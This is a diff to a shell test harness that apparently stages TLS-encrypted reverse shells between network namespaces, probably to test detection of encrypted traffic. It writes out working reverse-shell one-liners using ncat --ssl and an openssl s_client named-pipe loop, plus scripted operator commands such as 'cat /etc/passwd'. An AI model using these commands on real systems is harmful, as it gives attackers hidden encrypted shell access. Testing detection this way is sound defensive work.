@@ -48,4 +48,24 @@ hit_stage() { # a program's length, then a library that loads itself; nothing of
         "import sys,time,os;b=b'MZARUH\\x89\\xe5'+os.urandom(3000);time.sleep(1);sys.stdout.buffer.write(len(b).to_bytes(4,'little')+b)"
     record in cli out; victim cli sh -c "timeout 3 nc.openbsd -d $OUT 4444"; save
 }
+secret() { # FEEDER-SERVER WORDS... -- COMMAND... : the operator's program, and the shell's, both with TLS
+    local server=(); while [ "$1" != -- ]; do server+=("$1"); shift; done; shift
+    net_up; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 3650 -subj /CN=out \
+        -keyout "$W/key" -out "$W/crt" 2>/dev/null
+    (cd / && pondered | timeout 60 ip netns exec "$P-out" "${server[@]//@/$W}" >/dev/null 2>&1) & PIDS+=($!); up out 4444
+    record in cli out; victim cli "$@"; save; has ' 4444 1603'; lacks "$(hex 'uid=0')"
+}
+pondered() { # commands at the pace of somebody who reads the answers
+    local line
+    sleep 1
+    for line in id 'uname -a' 'ls -l /etc/ssl' pwd 'cat /etc/passwd' 'ls /' 'cat /etc/issue' hostname 'ls -la /home' exit; do
+        printf '%s\n' "$line"; sleep "$((1 + RANDOM % 3)).$((RANDOM % 9))"
+    done
+}
+hit_ncat_ssl() { secret ncat --ssl --ssl-key @/key --ssl-cert @/crt -l 4444 -- ncat --ssl $OUT 4444 -e /bin/sh; }
+hit_openssl_s_client() {
+    local pipe; pipe=$(mktemp -u)
+    secret openssl s_server -quiet -key @/key -cert @/crt -port 4444 -- \
+        sh -c "mkfifo $pipe; sh -i <$pipe 2>&1 | openssl s_client -quiet -connect $OUT:4444 >$pipe 2>/dev/null; rm -f $pipe"
+}
 scenarios "$@"
